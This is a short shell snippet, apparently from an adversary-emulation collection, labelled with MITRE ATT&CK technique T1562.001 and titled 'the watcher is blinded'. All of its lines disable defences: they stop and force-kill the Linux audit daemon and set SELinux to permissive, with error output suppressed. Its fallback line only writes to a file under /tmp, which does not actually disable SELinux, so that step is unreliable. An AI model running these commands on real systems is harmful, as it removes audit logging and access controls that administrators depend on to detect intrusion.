# technique: T1562.001
# title: the watcher is blinded
systemctl stop auditd 2>/dev/null || true
pkill -9 auditd || true
setenforce 0 2>/dev/null || sh -c 'echo 0 > /tmp/selinux-enforce'
